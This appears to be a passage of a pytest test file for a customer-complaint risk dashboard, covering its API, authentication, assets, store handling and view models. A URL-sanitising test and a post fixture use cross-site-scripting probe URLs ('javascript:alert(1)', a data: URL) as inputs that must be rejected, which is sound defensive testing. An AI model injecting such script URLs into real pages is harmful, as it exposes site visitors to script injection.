    body = client.get(f"/v1/brands/AcmeTelco/history?theme={theme}&min_risk=0.6").json()
    assert body["theme"] == theme and body["min_risk"] == 0.6
    assert body["customers"] and all(theme in c["drivers"] and c["risk"] >= 0.6
                                     for c in body["customers"])
    assert client.get("/v1/brands/AcmeTelco/history?limit=2").json()["customers"].__len__() == 2
    missing = client.get("/v1/brands/Nonesuch/history")
    assert missing.status_code == 404
    assert missing.json()["detail"] == ("no brand 'Nonesuch' in the risk history; brands: "
                                        "AcmeTelco, Bluebird Air, Cornershop")
    bad = client.get("/v1/brands/AcmeTelco/history?theme=weather")
    assert bad.status_code == 400 and bad.json()["detail"].startswith("unknown theme 'weather'")
    assert client.get("/v1/brands/AcmeTelco/history?min_risk=2").status_code == 422


# --- auth ----------------------------------------------------------------------------------------


def test_json_needs_the_key_when_one_is_set(keyed_client):
    for path in ("/v1/brands", "/v1/brands/AcmeTelco/history"):
        refused = keyed_client.get(path)
        assert refused.status_code == 401
        assert refused.json()["detail"] == "missing or wrong X-API-Key header"
        assert keyed_client.get(path, headers={"X-API-Key": API_KEY}).status_code == 200
        # The pages link this JSON: a browser signed in with Basic must be able to follow.
        assert keyed_client.get(path, headers=basic("me", API_KEY)).status_code == 200
        assert keyed_client.get(path, headers=basic("me", "wrong")).status_code == 401


def test_pages_accept_the_key_header_or_basic_auth(keyed_client, fixture):
    for path in ("/", "/brands/AcmeTelco"):
        refused = keyed_client.get(path)
        assert refused.status_code == 401
        assert refused.headers["www-authenticate"].startswith("Basic ")
        assert "radar.db" not in refused.text  # nothing about the server before sign-in
        for name in private_names(fixture.db_path):
            assert name not in refused.text
        assert "API key" in refused.text and "AcmeTelco</a>" not in refused.text
        assert_only_local_assets(refused.text)
        assert keyed_client.get(path, headers={"X-API-Key": API_KEY}).status_code == 200
        assert keyed_client.get(path, headers=basic("anyone", API_KEY)).status_code == 200
        assert keyed_client.get(path, headers=basic("anyone", "wrong-password")).status_code \
            == 401
        assert keyed_client.get(path, headers={"Authorization": "Basic !!!"}).status_code == 401
        assert keyed_client.get(path, headers={"X-API-Key": "nope"}).status_code == 401


def test_pages_are_open_without_a_key(client):
    assert client.get("/").status_code == 200
    assert client.get("/", headers={"X-API-Key": "anything"}).status_code == 200


def test_static_assets_need_no_key(keyed_client):
    assert keyed_client.get("/static/dashboard.css").status_code == 200
    assert keyed_client.get("/static/plotly.min.js").status_code == 200


def test_pages_are_not_cached(client):
    assert client.get("/brands/AcmeTelco").headers["cache-control"] == "no-store"


# --- assets --------------------------------------------------------------------------------------


def test_plotly_js_is_served_from_the_plotly_package(client):
    response = client.get("/static/plotly.min.js")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/javascript")
    assert "max-age=31536000" in response.headers["cache-control"]
    assert response.content == dashboard.plotly_js_path().read_bytes()
    page = client.get("/brands/AcmeTelco").text
    assert f'src="/static/plotly.min.js?v={dashboard.plotly_version()}"' in page


def test_without_plotly_the_script_is_a_503_naming_the_serve_extra(client, monkeypatch):
    real_find_spec = dashboard.importlib.util.find_spec
    monkeypatch.setattr(dashboard.importlib.util, "find_spec",
                        lambda name: None if name == "plotly" else real_find_spec(name))
    response = client.get("/static/plotly.min.js")
    assert response.status_code == 503
    assert response.json()["detail"] == ("the dashboard needs plotly, from the 'serve' extra: "
                                         "pip install -e '.[serve]'")


def test_a_plotly_without_its_script_says_to_reinstall_it(tmp_path, monkeypatch):
    from importlib.machinery import ModuleSpec

    from nlp.errors import NotInstalled

    spec = ModuleSpec("plotly", None, is_package=True)
    spec.submodule_search_locations = [str(tmp_path)]  # a plotly folder without package_data
    monkeypatch.setattr(dashboard.importlib.util, "find_spec", lambda name: spec)
    with pytest.raises(NotInstalled, match=r"pip install --force-reinstall plotly \(plotly is "
                                           r"installed but .*plotly\.min\.js is missing\)"):
        dashboard.plotly_js_path()


def test_own_static_files_are_served(client):
    css = client.get("/static/dashboard.css")
    js = client.get("/static/dashboard.js")
    assert css.status_code == js.status_code == 200
    assert css.headers["content-type"].startswith("text/css")
    assert "Plotly.newPlot" in js.text and "theme-select" in js.text
    assert client.get("/static/missing.js").status_code == 404


def test_no_page_loads_anything_from_elsewhere(client, fixture):
    pages = ["/", "/brands/AcmeTelco", f"/brands/AcmeTelco?theme={fixture.filter_theme}",
             "/brands/Nonesuch", "/brands/AcmeTelco?theme=weather", f"/?{RANGE}",
             f"/brands/AcmeTelco?{RANGE}", "/brands/AcmeTelco?from=2030-01-01"]
    for path in pages:
        html = client.get(path).text
        assert_only_local_assets(html)
        for name in private_names(fixture.db_path):  # nor where the server keeps its store
            assert name not in html
    for name in ("dashboard.css", "dashboard.js"):
        text = (dashboard.STATIC_DIR / name).read_text()
        assert "http" not in text and "@import" not in text


# --- the store: missing, empty, opened per request -----------------------------------------------


def made_at(target: StoreTarget) -> list[str]:
    """What exists where a store would be: the SQLite file and its side files, or the tables
    of the PostgreSQL database."""
    if is_database_url(target):
        import psycopg

        with psycopg.connect(str(target)) as conn:
            return [row[0] for row in conn.execute(
                "SELECT table_schema || '.' || table_name FROM information_schema.tables "
                "WHERE table_schema NOT IN ('pg_catalog', 'information_schema')")]
    path = Path(target)
    return sorted(str(p) for p in path.parent.glob(path.name + "*"))


def test_missing_store_is_said_clearly_and_not_created(store_db, tmp_path):
    """Before the monitor's first run (no file yet, or a database without the store's
    tables): a message, no server error, and nothing made."""
    db_path = store_db
    assert not made_at(db_path)
    settings = ServeSettings(model_dir=tmp_path / "no-model", db_path=db_path)
    message = views.missing_store_message()
    # The path is the server's business, not a visitor's: the message names the setting.
    assert message == ("no store yet (at the file or database RADAR_DB names); run `radar "
                       "monitor --config <config.yaml> --once`")
    shown = message.replace("<", "&lt;").replace(">", "&gt;")
    with TestClient(create_app(settings)) as c:
        page = c.get("/")
        assert page.status_code == 200 and shown in page.text
        assert not Tags(page.text).having("tr", "brand-row")
        brand = c.get("/brands/AcmeTelco")
        assert brand.status_code == 404 and shown in brand.text
        for response in (page, brand):
            assert_only_local_assets(response.text)
        assert c.get("/v1/brands").json() == {
            "measure": "expected share of customers at risk", "score_version": SCORE_VERSION,
            "message": message, "brands": []}
        history = c.get("/v1/brands/AcmeTelco/history")
        assert history.status_code == 404 and history.json()["detail"] == message
        for response in (page, brand, history):
            assert str(tmp_path) not in response.text
            for name in private_names(db_path):
                assert name not in response.text
    assert not made_at(db_path)


def test_empty_store_says_there_is_no_history_yet(store_db, tmp_path):
    db_path = store_db
    open_store(db_path).close()
    message = views.empty_history_message(SCORE_VERSION)
    with TestClient(create_app(ServeSettings(model_dir=tmp_path, db_path=db_path))) as c:
        page = c.get("/")
        assert page.status_code == 200
        assert "the store holds no risk history (risk.v1) yet" in page.text
        for name in private_names(db_path):
            assert name not in page.text
        assert c.get("/v1/brands").json() == {
            "measure": "expected share of customers at risk", "score_version": SCORE_VERSION,
            "message": message, "brands": []}
        brand = c.get("/brands/AcmeTelco")
        assert brand.status_code == 404 and "holds no risk history" in brand.text


def test_a_file_that_is_no_store_is_a_503_with_the_reason(tmp_path):
    db_path = tmp_path / "other.db"
    db_path.write_bytes(b"this is not sqlite" * 100)
    with TestClient(create_app(ServeSettings(model_dir=tmp_path, db_path=db_path))) as c:
        page, api = c.get("/"), c.get("/v1/brands")
    assert page.status_code == api.status_code == 503
    assert "not a complaint-radar store" in page.text
    assert "not a complaint-radar store" in api.json()["detail"]
    assert str(tmp_path) not in page.text and str(tmp_path) not in api.json()["detail"]


def test_a_database_out_of_reach_is_a_503_with_the_reason(postgres_server, tmp_path):
    """PostgreSQL's counterpart of a file that is no store: a database the server does not
    have is a fault (503), not "no store yet"; the reason is shown, the URL is not."""
    url = postgres_server.url("no_such_database")
    with TestClient(create_app(ServeSettings(model_dir=tmp_path, db_path=url))) as c:
        page, api = c.get("/"), c.get("/v1/brands")
    assert page.status_code == api.status_code == 503
    assert 'database "no_such_database" does not exist' in html.unescape(page.text)
    assert api.json()["detail"].startswith("cannot connect to no_such_database on 127.0.0.1: ")
    for text in (page.text, api.json()["detail"]):
        assert url not in text and f"{postgres_server.user}@" not in text


def test_each_request_opens_and_closes_the_store(fixture, tmp_path, monkeypatch):
    closes: list[list[bool]] = []  # one list per opened store, one entry per close

    def tracking_open(path):
        store = open_store(path)
        closes.append([])
        calls, real_close = closes[-1], store.close

        def close():
            calls.append(True)
            real_close()

        store.close = close
        return store

    monkeypatch.setattr(serve, "open_store", tracking_open)
    app = create_app(ServeSettings(model_dir=tmp_path, db_path=fixture.db_path))
    with TestClient(app) as c:
        for path in ("/", "/brands/AcmeTelco", "/brands/Nonesuch", "/v1/brands"):
            c.get(path)
    assert closes == [[True]] * 4  # each request its own store, closed once, errors too


def test_dashboard_works_while_no_model_is_loaded(client):
    assert client.get("/readyz").status_code == 503
    assert client.get("/").status_code == 200
    assert client.get("/v1/brands").status_code == 200


# --- settings ------------------------------------------------------------------------------------


def test_store_path_comes_from_radar_db(monkeypatch, tmp_path):
    monkeypatch.setenv("RADAR_DB", str(tmp_path / "from-env.db"))
    assert ServeSettings().db_path == tmp_path / "from-env.db"
    assert ServeSettings.from_env().db_path == tmp_path / "from-env.db"
    assert ServeSettings.from_env({"RADAR_DB": "elsewhere.db"}).db_path == Path("elsewhere.db")
    monkeypatch.delenv("RADAR_DB")
    assert ServeSettings().db_path == Path("data/radar.db")


def test_dashboard_settings_are_checked():
    settings = ServeSettings.from_env({"RADAR_DASHBOARD_MIN_RISK": "0.7",
                                       "RADAR_DASHBOARD_CUSTOMERS": "10"})
    assert (settings.dashboard_min_risk, settings.dashboard_customers) == (0.7, 10)
    with pytest.raises(ValueError, match=r"dashboard_min_risk must be in \[0, 1\], got 1.5"):
        ServeSettings(dashboard_min_risk=1.5)
    with pytest.raises(ValueError, match="RADAR_DASHBOARD_CUSTOMERS='many' is not a valid"):
        ServeSettings.from_env({"RADAR_DASHBOARD_CUSTOMERS": "many"})


# --- view models ---------------------------------------------------------------------------------


def _point(**changes) -> HistoryPoint:
    base = HistoryPoint(
        brand="B", window_start=datetime(2024, 1, 1, tzinfo=UTC),
        window_end=datetime(2024, 1, 8, tzinfo=UTC), score_version=SCORE_VERSION,
        model_version="m1", customers=30, posts=40, at_risk_share=0.3, ci_low=0.2, ci_high=0.4,
        ci_method="bootstrap", expected_at_risk=9.0, previous_share=0.4, trend=-0.1,
        trend_low=-0.18, trend_high=-0.02, trend_significant=True,
        drivers={"billing": 0.5, "waiting": 0.3, "churn_intent": 0.15, "unthemed": 0.05},
        computed_at=datetime(2024, 1, 8, 6, tzinfo=UTC))
    return dataclasses.replace(base, **changes)


def test_trend_labels_and_arrows():
    down = views.brand_row(_point())
    assert (down.trend, down.arrow) == ("down", "▼")
    assert views.point_record(_point())["trend_label"] == "down"
    up = _point(trend=0.1, trend_low=0.02, trend_high=0.18)
    assert views.brand_row(up).arrow == "▲"
    assert views.trend_title(up) == ("+10.0 pts (95% CI +2.0 pts to +18.0 pts) against the "
                                     "previous window: rise beyond the noise")
    flat = views.brand_row(_point(trend_significant=False))
    assert (flat.trend, flat.arrow, flat.trend_title) == (
        "flat", "≈", "-10.0 pts (95% CI -18.0 pts to -2.0 pts) against the previous window: "
                     "change within the noise")
    new = _point(trend=None, trend_low=None, trend_high=None, trend_significant=None,
                 previous_share=None)
    assert (views.brand_row(new).arrow, views.trend_title(new)) == (
        "new", "no earlier window to compare")
    gap = replace(new, earlier=True)
    assert (views.brand_row(gap).trend, views.trend_title(gap)) == (
        "gap", "no customers in the window before, so no change to compare")
    partial = replace(new, earlier=True, previous_partial=True)
    assert views.brand_row(partial).trend == "partial"


def test_overview_rows_order_ties_by_name_and_keep_three_drivers():
    rows = views.overview_rows([_point(brand="b", at_risk_share=0.3),
                                _point(brand="a", at_risk_share=0.3),
                                _point(brand="c", at_risk_share=0.35, ci_high=0.45)])
    assert [r.brand for r in rows] == ["c", "a", "b"]
    assert [d.key for d in rows[0].drivers] == ["billing", "waiting", "churn_intent"]


def test_unsafe_post_urls_are_not_linked():
    assert views.safe_url("https://x.example/p/1") == "https://x.example/p/1"
    for url in ("javascript:alert(1)", "/relative", "data:text/html,hi", "", None, "http://"):
        assert views.safe_url(url) is None


def test_alerts_without_the_usual_fields_still_say_what_happened():
    def stored(kind: str, payload: dict, deliveries=()) -> StoredAlert:
        return StoredAlert(alert_key="k", brand="b", window_end=datetime(2024, 1, 8, tzinfo=UTC),
                           kind=kind, payload=payload, deliveries=tuple(deliveries))

    [shown] = views.alert_views([stored(
        "theme_jump", {"change": 0.12, "examples": [{"text": "hi @bob", "url": "x"}]},
        [AlertDelivery(channel="webhook", attempts=4, status="failed", last_error="HTTP 503")])])
    assert (shown.kind, shown.change, shown.top_driver) == ("theme jump", "+12.0 pts", "")
    assert shown.headline == "theme jump (window ending 2024-01-08)"
    assert [(p.text, p.url) for p in shown.examples] == [("hi @user", None)]
    assert shown.deliveries == ("webhook: failed after 4 attempts",)
    assert len(views.alert_views([stored("x", {})] * 9)) == views.RECENT_ALERTS


def test_check_theme():
    assert views.check_theme(None) is None and views.check_theme(" ") is None
    assert views.check_theme("billing") == "billing"
    with pytest.raises(ValueError, match="unknown theme 'Billing'; valid themes: churn_intent"):
        views.check_theme("Billing")


def test_every_driver_has_a_label_and_definition():
    for key in DRIVER_KEYS:
        assert views.DRIVER_LABELS[key] and views.DRIVER_DEFINITIONS[key]


def test_customer_views_mask_posts_and_hide_the_author():
    post = StoredPost(source="social", post_id="1",
                      created_at=datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC),
                      text="@maria_k says @AcmeTelco billed twice https://x.example/r &amp; more",
                      url="javascript:alert(1)")
    row = WindowCustomer(customer="@maria_k", risk=0.8,
                         drivers={"billing": 0.3, "churn_intent": 0.7}, posts=(post,))
    [view] = views.customer_views([row], Pseudonymizer("k"))
    assert view.pseudonym == Pseudonymizer("k")("@maria_k") != "@maria_k"
    assert view.driver_keys == "churn_intent billing"
    [post] = view.posts
    assert post.text == "@user says @user billed twice http & more"
    assert post.url is None and post.created_at == datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)
    assert views.customer_record(view)["posts"][0]["created_at"] == "2024-01-02T03:04:05Z"


def test_charts_leave_a_gap_where_a_window_has_no_customers(store):
    """A week without customers between two with them: the share, band and driver lines
    break there (a None and connectgaps off) instead of drawing across it."""
    history = brand_history(store, "AcmeTelco", SCORE_VERSION)
    holed = [*history[:2], *history[3:]]  # week 3 had no customers
    risk = views.risk_figure(holed)
    low, high, share = risk["data"][:3]
    for trace in (low, high, share):
        assert trace["y"][:2] == [getattr(p, trace_field(trace)) for p in history[:2]]
        assert trace["y"][2] is None and None not in trace["y"][3:]
        assert trace["connectgaps"] is False
    assert len(share["y"]) == len(holed) + 1
    bars = risk["data"][3]
    assert bars["type"] == "bar" and len(bars["y"]) == len(holed)  # no bar for the gap
    for trace in views.driver_figure(holed)["data"]:
        assert trace["y"][2] is None and trace["connectgaps"] is False
    # Whole weeks in a row: no gap at all.
    assert None not in views.risk_figure(history)["data"][2]["y"]


def trace_field(trace: dict) -> str:
    return {"interval low": "ci_low", views.CONFIDENCE_LABEL: "ci_high"}.get(trace["name"],
                                                                           "at_risk_share")
